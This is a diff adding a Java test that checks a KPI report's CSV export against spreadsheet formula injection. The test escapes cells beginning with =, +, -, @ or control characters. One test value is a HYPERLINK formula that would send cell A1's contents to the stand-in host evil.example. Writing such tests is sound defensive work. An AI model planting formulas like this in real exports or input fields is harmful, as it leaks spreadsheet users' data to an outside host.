@@ -66,6 +66,21 @@ class KpiReportTest extends AppTest {
     }
 
     @Test
+    void aFormulaInTheCsvIsShownNotRun() {
+        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
+        Answer csv = rest().as("hanna").getAccepting("/api/reports/kpis?managerId="
+            + java.net.URLEncoder.encode(formula, java.nio.charset.StandardCharsets.UTF_8), "text/csv");
+
+        assertThat(csv.status()).as(csv.body()).isEqualTo(200);
+        assertThat(csv.body()).contains("\r\nmanager,,,,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"\r\n");
+        for (String cell : List.of("+1", "-1", "@SUM(A1)", "\tx", "\rx")) {
+            // (a cell with a line break is quoted as well)
+            assertThat(KpiCsv.field(cell).replaceFirst("^\"", "")).as(cell).startsWith("'");
+        }
+        assertThat(KpiCsv.field(-1)).as("a number stays a number").isEqualTo("-1");
+    }
+
+    @Test
     void onlyProcessOwnersHrAndAdminsSeeKpis() {
         for (String user : List.of("hanna", "admin")) {
             assertThat(rest().as(user).get("/api/reports/kpis").status()).as(user).isEqualTo(200);
